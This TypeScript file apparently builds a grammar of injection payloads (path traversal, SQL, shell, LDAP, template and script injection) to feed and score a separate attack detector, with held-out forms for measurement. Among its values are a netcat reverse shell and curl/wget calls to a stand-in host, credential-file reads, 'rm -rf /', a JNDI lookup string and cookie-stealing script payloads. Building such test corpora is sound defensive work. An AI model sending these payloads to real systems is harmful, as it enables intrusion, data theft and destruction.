/**
 * A grammar of attacks by their kinds, as they are described in public (OWASP's testing guide,
 * the manuals of SQL, shells, LDAP filters and template engines). It knows nothing of the detector.
 */

/** Alternatives for each place of a payload; each payload takes one of each. */
type Form = readonly (readonly string[])[];

const UP = ['../', '..\\', '....//', '..;/', '..%2f', '%2e%2e%2f', '..%5c', '%252e%252e%252f'];
const TARGETS = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'WEB-INF/web.xml', 'id_rsa', ''];
const COMMANDS = [
  ...['id', 'whoami', 'cat /etc/passwd', 'ls -la', 'uname -a', 'sleep 5', 'ping -c 3 127.0.0.1'],
  ...['curl http://x.example/a', 'wget x.example/a', 'nc -e /bin/sh x.example 4444', 'rm -rf /'],
  ...['/bin/sh -c id', 'powershell -c dir', 'python3 -c 1', 'bash -i', 'nslookup x.example'],
];
const CONDITIONS = [
  ...['OR 1=1', "or '1'='1'", 'and 1=2', "or 'a' like 'a'", 'and sleep(5)', 'or 2>1', 'OR 1 = 1'],
  ...['and benchmark(1000000,md5(1))', "and substring(version(),1,1)='5'", 'or not 1=2'],
  ...['AND (SELECT 1 FROM users)=1', 'and extractvalue(1,concat(0x7e,version()))'],
];
const QUERIES = [
  ...['union select null,null', 'UNION ALL SELECT user,password FROM users', 'UnIoN sElEcT 1,2,3'],
];
const STATEMENTS = [
  ...['drop table users', 'DELETE FROM users', "insert into users values('x')", 'shutdown'],
  ...["exec xp_cmdshell('dir')", "waitfor delay '0:0:5'", 'update users set admin=1'],
];
const QUOTES = ["'", '"', "')", "'))", "1'", "admin'", '1")', '-1'];
const ENDS = ['--', '-- ', '#', '/*', ';--', ''];
const EXPRESSIONS = ['7*7', 'config', "''.class", '7*"7"', 'self.__init__', 'request.args'];
const SCRIPTS = ['alert(1)', 'alert(document.cookie)', "fetch('//x.example')", 'eval(name)'];

export const GRAMMAR: Readonly<Record<string, readonly Form[]>> = {
  traversal: [
    [['', '/', 'images/', 'file=', './'], UP, ['', '../', '../../../', '..\\..\\'], TARGETS],
    [['/var/www/', 'C:\\data\\', 'public/'], UP, UP, TARGETS],
  ],
  SQL: [
    [QUOTES, [' '], CONDITIONS, ENDS],
    [QUOTES, [' '], QUERIES, ENDS],
    [QUOTES, [';', '; '], STATEMENTS, ENDS],
    [
      ['', ' '],
      ['or 1=1', 'OR 2=2', "or 'x'='x'"],
      ['--', '-- ', '#', ''],
    ],
    [
      ["'", '1'],
      ['/**/', '+', '%20', '\t'],
      ['or', 'AND'],
      ['/**/', '+', '%20', '\t'],
      ['1=1', "'a'='a'"],
      ENDS,
    ],
    [
      ["'", "1'", "')"],
      [' order by 10', ' group by 1', ' having 1=1', ' limit 1'],
      ['--', '#', '/*'],
    ],
    [['x', 'admin', 'root', '1'], ["'"], ['--', '#', '/*', '-- x', ')--', ';']],
  ],
  shell: [
    [
      ['', 'x', 'a.txt', '127.0.0.1'],
      [';', '; ', '|', ' | ', '||', '&', '&& ', '\n', '%0a'],
      COMMANDS,
      ['', ';', ' #', ' &', '|'],
    ],
    [['', 'x', 'a='], ['$('], COMMANDS, [')']],
    [['', 'a=', ';'], ['`'], COMMANDS, ['`']],
  ],
  LDAP: [
    [
      ['*', 'admin', '', '*)', 'x*'],
      [')(', ')(|(', '(|(', ')(&('],
      ['uid', 'cn', 'objectclass', 'mail'],
      ['=*', '=x', '>=0'],
      ['', ')', '))', '))%00'],
    ],
    [
      ['admin', '*', 'x'],
      [')(&)', ')(|', '))(|(cn=*', ')(!(cn=x'],
    ],
  ],
  template: [
    [
      ['', 'x', 'Hello '],
      ['{{', '${', '#{', '<%= ', '{% ', '${{', '*{', '[[${'],
      EXPRESSIONS,
      ['}}', '}', ' %>', ' %}'],
    ],
    [['\u{24}{jndi:'], ['ldap', 'rmi', 'dns', '\u{24}{lower:l}dap'], ['://x.example/a}']],
  ],
  script: [
    [
      ['', '"', "'>", '">', 'x'],
      ['<script>', '<SCRIPT SRC=//x.example>', '</script><script>', '%3Cscript%3E'],
      SCRIPTS,
      ['</script>', '//', ''],
    ],
    [
      ['', '">', "'"],
      ['<img src=x ', '<svg ', '<body ', '<input autofocus ', '<details open '],
      ['onerror=', 'onload=', 'onfocus=', 'ontoggle='],
      SCRIPTS,
      ['>', ' x>', ''],
    ],
    [['', '"><a href="', "<iframe src='"], ['javascript:', 'JaVaScRiPt:', 'vbscript:'], SCRIPTS],
    [['" ', "' ", 'x" '], ['onmouseover=', 'onclick=', 'autofocus onfocus='], SCRIPTS],
  ],
};

/** Forms that the detector was not fitted to; they are measured, and count in the total alone. */
export const HELD_OUT: Readonly<Record<string, readonly Form[]>> = {
  traversal: [
    [
      ['%2e%2e/', '..%c0%af', '..\\/', '.%2e/'],
      ['%2e%2e/', '..%c0%af', '../'],
      ['boot.ini', 'secret.key'],
    ],
  ],
  SQL: [
    [
      ["'", "x'"],
      ['||', ' || ', '+'],
      ['(select password from users)', '(SELECT 1)'],
      ['||', '+'],
      ["'"],
    ],
    [
      ["'", "')"],
      [' and ', ' OR '],
      ['ascii(substring(user(),1,1))', 'length(database())'],
      ['>64', '=5'],
      ['#', '-- -'],
    ],
    [["'"], [' rlike ', ' regexp ', ' between '], ["'a", "'a' and 'z"], ['', '#']],
    [
      ['1 ', '0 '],
      ['and', 'or'],
      [' exists(select * from users)', ' true', ' 1 in (1)'],
      ['--', '#'],
    ],
  ],
  shell: [
    [
      ['x;', 'x|', '$('],
      ['tee /tmp/x', 'perl -e 1', 'env', 'chmod 777 x', 'kill -9 1'],
      ['', ')'],
    ],
    [['x;'], ['{cat,/etc/passwd}', 'cat\u{24}{IFS}/etc/passwd', "c'a't /etc/passwd"]],
  ],
  LDAP: [[['*'], ['))(', ')(', '))%00('], ['&(userPassword=*', '|(sn=a*', 'memberOf=cn=x']]],
  template: [
    [
      ['@(', '%{', '#set($x=', '{php}', '<#assign x='],
      ['7*7', '1+1'],
      [')', '}', ''],
    ],
  ],
  script: [
    [
      ['<marquee ', '<video src=x ', '<math ', '<object '],
      ['onstart=', 'onerror=', 'data='],
      SCRIPTS,
      ['>'],
    ],
    [["';", '";', "'-", '"-'], SCRIPTS, ['//', "-'", '-"']],
  ],
};

/** Every payload of a form, thinned evenly to the given number. */
export function payloadsOf(form: Form, atMost = 400): string[] {
  const all = form.reduce<string[]>(
    (heads, places) => heads.flatMap((head) => places.map((place) => head + place)),
    [''],
  );
  const step = Math.max(1, Math.ceil(all.length / atMost));
  // A step that shares no factor with the numbers of alternatives, so that all of them occur.
  return all.filter((_, i) => (i * 7919) % step === 0);
}
